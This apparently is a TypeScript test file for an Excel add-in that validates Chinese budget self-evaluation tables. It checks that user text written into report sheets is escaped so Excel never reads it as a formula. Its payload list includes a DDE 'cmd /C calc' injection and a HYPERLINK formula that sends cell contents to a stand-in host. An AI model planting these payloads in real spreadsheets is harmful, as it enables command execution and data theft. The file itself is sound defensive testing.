/**
 * Nothing injected: text copied from a user's table into the add-in's own sheets (校验报告, 覆盖率统计) is written
 * as text, never read by Excel as a formula or a number. The fake reads Range.values the way Excel reads typed
 * input (a leading = + - @ makes a formula, "0012" a number, a leading apostrophe is a quote prefix, a cell
 * formatted "@" keeps text as written), so these tests fail if an escape or a text format is missing.
 */
import { installFakeExcel, type FakeExcel, type FakeSheet } from "../fakes/excel-fake";
import { writeReportSheet, cellLinkFormula, REPORT_TABLE_ROW } from "../../src/excel/report";
import { writeCoverageSheet } from "../../src/excel/coverage";
import { safeText } from "../../src/excel/sheets";
import { readWorkbookGrids } from "../../src/excel/workbook";
import { checkWorkbook, coverageReport } from "../../src/domain/engine";
import type { Issue } from "../../src/domain/issues";
import { issueGrid } from "../../src/domain/report";

const g = globalThis as { Excel?: unknown };
afterEach(() => {
  delete g.Excel;
});

/** Texts a user's table may hold that Excel would not keep as the same text if typed into a General cell. */
const HOSTILE = [
  "=1+1",
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1)",
  "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")",
  "＝1+1",
  "＋1+1",
  "－2+3",
  "＠SUM(A1)",
  " =1+1",
  "\u3000=1+1",
  "\t=1+1",
  "\r=1+1",
  "\n-1+1",
  "'=1+1",
  "''",
  "-5",
  "+5",
  "0012",
  "-",
  "1e5",
];

/** Every cell of a sheet that holds a formula, as "r,c → formula". */
function formulas(s: FakeSheet): string[] {
  return [...s.cells.entries()].filter(([, c]) => c.formula !== undefined).map(([k, c]) => `${k} → ${c.formula}`);
}

function issue(i: number, text: string): Issue {
  return {
    code: "value.format" as Issue["code"],
    severity: i % 2 ? "error" : "warning",
    sheet: `表${i}`,
    cell: `B${i + 2}`,
    value: text,
    expected: text,
    message: text,
    messageEn: text,
    source: "practice: test",
  };
}

describe("safeText", () => {
  it.each(HOSTILE.filter((s) => /^[\s\u3000]*[=+\-@＝＋－＠']/.test(s)))("escapes %j with a quote prefix", (s) => {
    expect(safeText(s)).toBe(`'${s}`);
  });
  it("leaves ordinary text alone", () => {
    for (const s of ["产出指标", "≥95%", "100", "良好", "", "a=b", "1-2", "指标-1"]) expect(safeText(s)).toBe(s);
  });
});

describe("校验报告 holds user text as text", () => {
  it("writes hostile values, sheet names and messages as the same text, with only our links as formulas", async () => {
    const fake: FakeExcel = installFakeExcel(g, { sheets: [{ name: "自评表", values: [["x"]] }] });
    const issues = HOSTILE.map((t, i) => ({ ...issue(i, t), sheet: i === 0 ? "=A1" : i === 1 ? "O'Brien \"表\"" : `表${i}` }));
    await writeReportSheet({ issues, stats: { errors: 1, warnings: 1, infos: 0 }, caption: "=cmd|' /C calc'!A0" });
    const rep = fake.model.sheet("校验报告")!;
    const grid = issueGrid(issues);
    grid.forEach((row, r) => {
      row.forEach((text, c) => {
        const cell = rep.cell(REPORT_TABLE_ROW + r, c);
        if (c === 2 && r > 0) {
          expect(cell?.formula).toBe(cellLinkFormula(issues[r - 1].sheet, issues[r - 1].cell));
          return;
        }
        expect({ r, c, value: cell?.value ?? "", formula: cell?.formula }).toEqual({ r, c, value: text, formula: undefined });
      });
    });
    expect(rep.cell(1, 0)?.value).toBe("=cmd|' /C calc'!A0");
    expect(formulas(rep).filter((f) => !f.includes("=HYPERLINK(\"#'"))).toEqual([]);
    expect(formulas(rep)).toHaveLength(issues.length);
  });

  it("quotes sheet names in the links: quotes doubled inside the address, double quotes doubled in the formula", () => {
    expect(cellLinkFormula("O'Brien", "B2")).toBe("=HYPERLINK(\"#'O''Brien'!B2\",\"B2\")");
    expect(cellLinkFormula("a\"b", "C3")).toBe("=HYPERLINK(\"#'a\"\"b'!C3\",\"C3\")");
  });

  it("checks a table full of hostile cells and writes the report without one injected formula", async () => {
    const rows: (string | number | null)[][] = [
      ["项目支出绩效自评表"],
      ["项目名称", "=1+1"],
      ["一级指标", "二级指标", "三级指标", "年度指标值", "实际完成值", "分值", "得分", "偏差原因分析及改进措施"],
      ...HOSTILE.map((t) => ["产出指标", "数量指标", t, t, t, 10, 8, t]),
    ];
    const fake = installFakeExcel(g, { sheets: [{ name: "自评表", values: rows }] });
    const before = JSON.stringify([...fake.model.sheets[0].cells.entries()]);
    const check = checkWorkbook((await readWorkbookGrids()).grids);
    expect(check.issues.some((i) => HOSTILE.includes(i.value))).toBe(true);
    await writeReportSheet({ issues: check.issues, stats: check.stats, caption: "c" });
    const rep = fake.model.sheet("校验报告")!;
    expect(formulas(rep).filter((f) => !/^\d+,2 → =HYPERLINK\("#'/.test(f))).toEqual([]);
    const valueCol = issueGrid(check.issues).slice(1).map((r) => r[5]);
    valueCol.forEach((v, i) => expect(rep.cell(REPORT_TABLE_ROW + 1 + i, 5)?.value ?? "").toBe(v));
    expect(JSON.stringify([...fake.model.sheets[0].cells.entries()])).toBe(before);
  });
});

describe("覆盖率统计 and 缺少目标清单 hold user text as text", () => {
  it("writes hostile departments, budget types, codes and names as the same text", async () => {
    const fake = installFakeExcel(g, { sheets: [{ name: "清单", values: [["x"]] }] });
    const budget = HOSTILE.map((t, i) => ({
      code: `P${i}`,
      name: t,
      department: t,
      budgetType: i % 2 ? "一般公共预算" : t,
      secret: false,
      amountWan: i + 1,
      sheet: i === 0 ? "=A1" : "清单",
      row: i + 1,
      cell: `A${i + 2}`,
    }));
    const { coverage } = coverageReport(budget, [{ code: "P1", name: "甲", valid: true, errorCount: 0, sheet: "目标", cell: "B3" }]);
    await writeCoverageSheet(coverage, "@caption");
    const s = fake.model.sheet("覆盖率统计")!;
    const miss = fake.model.sheet("缺少目标清单")!;
    expect(formulas(s)).toEqual([]);
    expect(formulas(miss)).toEqual([]);
    const texts = new Set([...s.cells.values()].map((c) => c.value).filter((v): v is string => typeof v === "string"));
    for (const d of coverage.byDepartment) expect(texts).toContain(d.department);
    for (const d of coverage.byBudgetType) expect(texts).toContain(d.budgetType);
    const missTexts = new Set([...miss.cells.values()].map((c) => c.value).filter((v): v is string => typeof v === "string"));
    for (const m of coverage.missing) {
      expect(missTexts).toContain(m.name);
      expect(missTexts).toContain(m.code);
      expect(missTexts).toContain(m.department);
    }
    // Figures stay numbers (the first department's project count).
    expect(typeof s.cell(3, 1)?.value).toBe("number");
  });

  it("keeps a code's leading zeros", async () => {
    const fake = installFakeExcel(g, { sheets: [{ name: "清单", values: [["x"]] }] });
    const budget = [{ code: "0012", name: "甲", department: "-", budgetType: "一般公共预算", secret: false, amountWan: 1, sheet: "清单", row: 1, cell: "A2" }];
    const { coverage } = coverageReport(budget, []);
    await writeCoverageSheet(coverage, "c");
    const s = fake.model.sheet("覆盖率统计")!;
    const codes = [...s.cells.values(), ...fake.model.sheet("缺少目标清单")!.cells.values()].map((c) => c.value);
    expect(codes).toContain(coverage.missing[0].code);
    expect(codes).toContain("-");
    expect(codes).not.toContain(12);
  });
});
